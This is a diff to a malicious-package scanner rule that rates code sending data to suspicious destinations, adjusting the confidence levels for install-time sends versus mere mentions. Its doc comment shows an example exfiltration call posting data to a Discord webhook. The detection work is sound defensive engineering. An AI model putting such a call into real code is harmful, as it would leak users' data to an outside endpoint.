@@ -21,6 +21,9 @@ declare_rule! {
     /// requests.post("https://discord.com/api/webhooks/123/abc", json=data)
     /// ```
     ///
+    /// Data sent to such a destination at install or import time is reported with high
+    /// confidence; a destination that is only mentioned, with low confidence.
+    ///
     /// ## When it is wrong
     /// Chat-bot libraries and network tools mention such hosts in their own code (runtime
     /// context); tests use IP literals (local and documentation ranges are ignored).
@@ -36,10 +39,15 @@ behaviour_rule!(
     SuspiciousDestination,
     SuspiciousDestination,
     [Some(H), Some(H), Some(M)],
-    |b| match (b.context, b.detail.starts_with("IP-literal")) {
-        (Context::Runtime, _) => Low,
-        (_, true) => Medium,
-        _ => High,
+    |b| match (
+        b.context,
+        b.detail.starts_with("sends to"),
+        b.detail.contains("IP-literal")
+    ) {
+        (Context::Runtime, _, _) => Low,
+        (_, true, false) => High,
+        (_, true, true) | (Context::Install, false, _) => Medium,
+        _ => Low,
     },
     |b| format!("{} ({} time)", b.detail, b.context)
 );
